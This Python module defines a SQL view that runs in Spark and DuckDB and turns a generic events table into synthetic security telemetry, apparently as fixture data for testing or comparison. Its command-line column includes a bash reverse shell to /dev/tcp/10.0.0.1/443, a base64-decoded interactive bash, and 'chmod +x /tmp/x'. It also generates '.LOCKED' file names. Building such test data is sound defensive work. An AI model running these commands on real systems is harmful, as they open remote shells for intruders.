"""The telemetry view: security events derived from the `events` table by one SQL text that runs in both engines."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

TELEMETRY = """SELECT event_id,
  'host-' || lpad(CAST(user_id % 20 AS STRING), 2, '0') AS host_id,
  CASE event_type WHEN 'view' THEN 1001 WHEN 'purchase' THEN 4001 WHEN 'error' THEN 2004 ELSE 1007 END AS class_uid,
  CAST(1 + CAST(floor(value) AS BIGINT) % 5 AS INT) AS severity_id,
  ts AS observed_at, ts + INTERVAL '1' SECOND AS collected_at,
  1 + CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT) AS pid,
  CAST(floor((1 + CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT)) / 3.0) AS BIGINT) AS parent_pid,
  'user' || CAST(user_id AS STRING) AS user_name,
  CASE event_id % 5 WHEN 0 THEN '/usr/bin/curl' WHEN 1 THEN '/bin/bash' WHEN 2 THEN '/usr/bin/chmod' WHEN 3 THEN '/usr/bin/sudo' ELSE '/usr/bin/Wget' END AS exec_path,
  CASE event_id % 4 WHEN 0 THEN 'bash -i >& /dev/tcp/10.0.0.1/443' WHEN 1 THEN 'chmod +x /tmp/x' WHEN 2 THEN 'echo L2Jpbi9iYXNoIC1p | base64 -d' ELSE NULL END AS cmdline,
  '/var/' || event_type || '/f' || CAST(event_id % 50 AS STRING) || CASE WHEN event_id % 7 = 0 THEN '.LOCKED' ELSE '.txt' END AS file_path,
  CASE WHEN event_id % 2 = 0 THEN 'tcp' ELSE 'udp' END AS protocol,
  '192.168.' || CAST(user_id % 4 AS STRING) || '.' || CAST(1 + user_id % 250 AS STRING) AS src_ip,
  CAST(1024 + event_id % 60000 AS INT) AS src_port,
  '10.' || CAST(event_id % 8 AS STRING) || '.' || CAST(user_id % 256 AS STRING) || '.' || CAST(event_id % 256 AS STRING) AS dst_ip,
  CASE event_id % 5 WHEN 0 THEN 443 WHEN 1 THEN 22 WHEN 2 THEN 9050 WHEN 3 THEN 80 ELSE 8080 END AS dst_port,
  'rule-' || lpad(CAST(event_id % 12 AS STRING), 2, '0') AS rule_uid,
  props AS raw
FROM {source}"""


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(TELEMETRY.replace("{source}", "{events}"), events=spark.read.parquet(f"{sf_dir}/events.parquet"))


def oracle(sql: str) -> str:
    """DuckDB text over the same view, named `t`."""
    return f"WITH t AS ({TELEMETRY.replace('{source}', 'events')})\n{sql}" if not sql.lstrip().upper().startswith("WITH") else f"WITH RECURSIVE t AS ({TELEMETRY.replace('{source}', 'events')}),\n{sql.lstrip()[4:]}"
